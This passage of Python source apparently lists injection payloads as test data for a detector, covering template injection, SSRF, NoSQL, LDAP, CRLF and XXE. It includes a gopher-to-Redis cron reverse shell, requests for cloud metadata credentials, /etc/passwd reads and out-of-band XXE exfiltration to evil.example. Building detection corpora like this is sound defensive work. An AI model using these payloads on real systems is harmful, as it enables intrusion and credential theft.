     "email=lee%40mail.example&first_name=%7Bsystem(%27cat+%2Fetc%2Fpasswd%27)%7D&last_name=Lee&frequency=weekly&topics=deals&topics=new&lang=en&consent=1"),
    ("ssti", "JSON array of blocks: Mako module os.system in one text leaf", "json", "",
     '{"blocks":[{"type":"heading","text":"Welcome"},{"type":"text","text":"${self.module.cache.util.os.system(\'id\')}"}]}'),
    ("ssti", "GraphQL variables: Tornado template import os", "json", "",
     '{"operationName":"PreviewPage","variables":{"page":{"title":"Draft","body":"{% import os %}{{ os.popen(\'id\').read() }}"}},"query":"mutation PreviewPage($page: PageInput!) { previewPage(page: $page) { html } }"}'),
    ("ssti", "Cookie header: Velocity reflection Runtime.exec in 5th cookie", "header:Cookie", "Cookie",
     _JAR + "; banner_text=#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\"); JSESSIONID=0A1B2C3D4E5F60718293A4B5C6D7E8F9"),

    # ------------------------------------------------------------------ SSRF
    ("ssrf", "Referer: share-preview URL to AWS metadata credentials", "header:Referer", "Referer",
     "https://www.shop.example.com/share?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F"
     "&title=Look&via=shop&utm_source=share&utm_medium=button"),
    ("ssrf", "prefs cookie: avatar_url fetched server-side to metadata", "cookie", "prefs",
     "prefs=lang=en&currency=EUR&avatar_url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2Fec2-role&density=cozy"),
    ("ssrf", "JSON 4-level deep webhooks array: metadata URL in one hook", "json", "",
     '{"integration":{"settings":{"webhooks":[{"event":"order.created","url":"https://hooks.partner.example/o"},{"event":"order.paid","url":"http://169.254.169.254/latest/user-data"}]}}}'),
    ("ssrf", "GraphQL variables: gopher:// to internal Redis writing cron", "json", "",
     '{"operationName":"ImportFeed","variables":{"feed":{"url":"gopher://198.18.0.10:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2456%0D%0A%0A%0A%2A%2F1%20%2A%20%2A%20%2A%20%2A%20bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F198.18.0.9%2F4444%200%3E%261%0A%0A%0D%0A%2A4%0D%0A%246%0D%0Aconfig%0D%0A%243%0D%0Aset%0D%0A%243%0D%0Adir%0D%0A%2416%0D%0A%2Fvar%2Fspool%2Fcron%0D%0A%2A1%0D%0A%244%0D%0Asave%0D%0A","format":"rss"}},"query":"mutation ImportFeed($feed: FeedInput!) { importFeed(feed: $feed) { id } }"}'),
    ("ssrf", "image proxy path with many params: IPv4-mapped IPv6 metadata host", "path", "",
     "/api/preview?lang=en&w=600&h=400&fit=cover&q=80&src=http://[::ffff:a9fe:a9fe]/latest/meta-data/iam/security-credentials/&format=webp"),
    ("ssrf", "feed form: decimal-encoded 169.254.169.254", "body:application/x-www-form-urlencoded", "feeds",
     "title=News&category=tech&refresh=3600&max_items=20&feed_url=http%3A%2F%2F2852039166%2Flatest%2Fmeta-data%2F&active=1"),
    ("ssrf", "XML attribute: image src fetched by renderer to metadata user-data", "body:application/xml", "documents",
     '<?xml version="1.0"?><document title="Invoice 4411"><header><image src="http://169.254.169.254/latest/user-data" width="120"/></header><body>Total: 99.00</body></document>'),
    ("ssrf", "X-Original-URL: admin proxy endpoint to GCP metadata token", "header:X-Original-URL", "X-Original-URL",
     "/admin/proxy?url=http%3A%2F%2F169.254.169.254%2FcomputeMetadata%2Fv1%2Finstance%2Fservice-accounts%2Fdefault%2Ftoken&h=Metadata-Flavor%3AGoogle"),
    ("ssrf", "JSON array of product image URLs: internal Docker API in one", "json", "",
     '{"product":{"sku":"LMP-2","images":[{"url":"https://cdn.shop.example.com/i/lmp2-a.jpg"},{"url":"http://198.18.0.10:2375/containers/json?all=1"},{"url":"https://cdn.shop.example.com/i/lmp2-c.jpg"}]}}'),

    # ------------------------------------------------------------------ NoSQLi
    ("nosqli", "base64 JSON session cookie: $ne operator on password", "cookie", "session",
     "session=" + _b64('{"username":"admin","password":{"$ne":""},"remember":true}')),
    ("nosqli", "JSON 4-level deep: $where sleep in owner filter", "json", "",
     '{"query":{"filter":{"owner":{"$where":"sleep(5000) || true"}},"limit":20}}'),
    ("nosqli", "login path with many params: password[$ne] bracket operator", "path", "",
     "/account/login?redirect=%2Fdashboard&lang=en&theme=light&username=admin&password[$ne]=invalid&remember=1&source=header"),
    ("nosqli", "raw login form with many fields: pass[$regex] prefix brute force", "raw", "",
     _raw("POST", "/login",
          [("Content-Type", "application/x-www-form-urlencoded"), ("Origin", "https://www.shop.example.com"),
           ("Referer", "https://www.shop.example.com/login?next=%2Faccount"), ("Cookie", _JAR + "; connect.sid=s%3Ak9J2h1G0f9E8d7C6.b5A4z3Y2x1W0")],
          "_csrf=Xk3pQ9zT2mL7vR1w&user=admin&pass%5B%24regex%5D=%5Ea.*&remember=on&next=%2Faccount")),
    ("nosqli", "JSON aggregation pipeline array: $lookup joining users collection", "json", "",
     '[{"$match":{"tenant":"acme"}},{"$lookup":{"from":"users","pipeline":[{"$project":{"email":1,"passwordHash":1}}],"as":"leak"}},{"$limit":100}]'),
    ("nosqli", "prefs cookie: JSON filter with $gt in owner", "cookie", "prefs",
     "prefs=lang=en&view=table&filter=%7B%22owner%22%3A%7B%22%24gt%22%3A%22%22%7D%7D&pp=50"),
    ("nosqli", "GraphQL variables: $regex/$ne operators in where input", "json", "",
     '{"operationName":"FindUser","variables":{"where":{"email":{"$regex":".*"},"password":{"$ne":null}}},"query":"query FindUser($where: JSON) { user(where: $where) { id email role } }"}'),
    ("nosqli", "Cookie header: URL-encoded JSON auth cookie with $ne token (5th)", "header:Cookie", "Cookie",
     _JAR + "; auth=%7B%22user%22%3A%22admin%22%2C%22token%22%3A%7B%22%24ne%22%3Anull%7D%7D; " + _SID + "; lang=en"),

    # ------------------------------------------------------------------ LDAPi
    ("ldapi", "Referer: filter breakout in name of intranet directory search", "header:Referer", "Referer",
     "https://intranet.example.com/directory/search?dept=sales&location=berlin&name=*)(uid=*))(%7C(uid%3D*&page=2&per_page=25&view=cards"),
    ("ldapi", "SSO user cookie: (&) always-true filter injection", "cookie", "sso_user", "sso_user=admin%29%28%26%29"),
    ("ldapi", "login form with many fields: OR-objectClass wildcard auth bypass", "body:application/x-www-form-urlencoded", "auth/login",
     "realm=corp&username=*)(%7C(objectClass%3D*)&password=anything&otp=&remember=0&lang=en&next=%2Fportal"),
    ("ldapi", "JSON 4-level deep: memberOf clause appended via mail filter", "json", "",
     '{"search":{"scope":{"filters":{"mail":"*)(memberOf=cn=Domain Admins,cn=Users,dc=corp,dc=example"}}},"attributes":["cn","mail"]}'),
    ("ldapi", "people path with several params: userPassword wildcard probe", "path", "",
     "/people?q=jo*)(userPassword=*&sort=cn&limit=20&fields=cn,mail,telephoneNumber"),
    ("ldapi", "X-Original-URL: admin LDAP lookup with OR cn=* breakout", "header:X-Original-URL", "X-Original-URL",
     "/admin/ldap/lookup?base=ou%3Dpeople&user=x)(%7C(cn%3D*)(mail%3D*)&attrs=cn%2Cmail%2CuserPassword"),

    # ------------------------------------------------------------------ CRLF
    ("crlf", "query return URL reflected in Location: CRLF Set-Cookie session fixation", "query", "return",
     "/account\r\nSet-Cookie: sessionid=attackerfixed0000000000000000000; Path=/; Domain=.shop.example.com"),
    ("crlf", "redirect path with many params: encoded CRLF adding Location", "path", "",
     "/redirect?lang=en&src=mail&next=/home%0d%0aLocation:%20https://evil.example/&utm_source=newsletter&utm_medium=email"),
    ("crlf", "lang cookie echoed in Content-Language: CRLF Set-Cookie", "cookie", "lang",
     "lang=en%0d%0aSet-Cookie:%20is_admin=1;%20Path=/"),
    ("crlf", "Referer replayed into redirect: CRLF response splitting with HTML body", "header:Referer", "Referer",
     "https://www.shop.example.com/cart?step=2&shipping=std&coupon=&return_to=%2Fcart%0D%0AContent-Length%3A%200%0D%0A%0D%0AHTTP%2F1.1%20200%20OK%0D%0AContent-Type%3A%20text%2Fhtml%0D%0A%0D%0A%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E&utm_source=email"),
    ("crlf", "JSON 3-level deep: raw CRLF in after_login redirect", "json", "",
     '{"auth":{"redirect":{"after_login":"/dashboard\\r\\nSet-Cookie: sid=attacker; Path=/\\r\\nX-Injected: 1"}}}'),
    ("crlf", "X-Original-URL: encoded CRLF injecting header into rewritten response", "header:X-Original-URL", "X-Original-URL",
     "/static/app.js%0d%0aX-Forwarded-For:%20127.0.0.1%0d%0aSet-Cookie:%20role=admin"),

    # ------------------------------------------------------------------ XXE
    ("xxe", "XML order with attributes: external entity reading /etc/passwd into note", "body:application/xml", "orders/import",
     '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><order id="A-2001" channel="b2b" currency="EUR"><customer ref="C-18" tier="silver"/><note lang="en">&xxe;</note></order>'),
    ("xxe", "SOAP/XML: OOB parameter-entity exfiltration via attacker DTD", "body:text/xml", "soap/inventory",
     '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % ext SYSTEM "http://evil.example/oob.dtd"> %ext; %send;]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetStock sku="HX-2231" warehouse="FRA1"/></soap:Body></soap:Envelope>'),
]
